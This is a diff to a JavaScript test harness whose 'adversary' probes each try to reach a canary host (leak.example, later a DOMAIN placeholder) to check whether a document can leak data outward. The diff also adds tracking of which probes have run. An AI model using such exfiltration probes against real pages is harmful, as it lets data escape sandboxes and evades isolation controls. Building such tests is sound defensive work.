@@ -1,8 +1,9 @@
-// Every way out of a document that we know of. Each probe tries to reach a name of its own below `leak.example`; whether
-// anything arrives is seen outside. `leaves` marks those that may take the document away, `press` those that a browser
+// Every way out of a document that we know of. Each probe tries to reach a name of its own below DOMAIN, which stands for
+// that of its arm: what a browser remembers of the control's names says nothing of the widget's. Whether anything arrives
+// is seen outside. `leaves` marks those that may take the document away, `press` those that a browser
 // lets through only after a press.
 (() => {
-  const at = (name) => `${name}.leak.example`;
+  const at = (name) => `${name}.DOMAIN`;
   const url = (name) => `https://${at(name)}/${name}`;
   const http = (name) => `http://${at(name)}/${name}`;
   const make = (tag, fields = {}, attributes = {}) => {
@@ -157,7 +158,9 @@
     'anchor-download': { leaves: true, press: true, run: (n) => make('a', { href: http(n), download: 'a' }).click() },
   };
 
+  const tried = new Set();
   const tries = (id) => {
+    tried.add(id);
     try {
       Promise.resolve(probes[id].run(id)).catch(() => {});
     } catch {
@@ -176,6 +179,7 @@
   globalThis.adversary = {
     list: () => Object.entries(probes).map(([id, { leaves = false, press = false }]) => ({ id, leaves, press })),
     tries: (ids) => ids.forEach(tries),
+    has: (id) => tried.has(id),
     arm: (id) => {
       armed = id;
     },
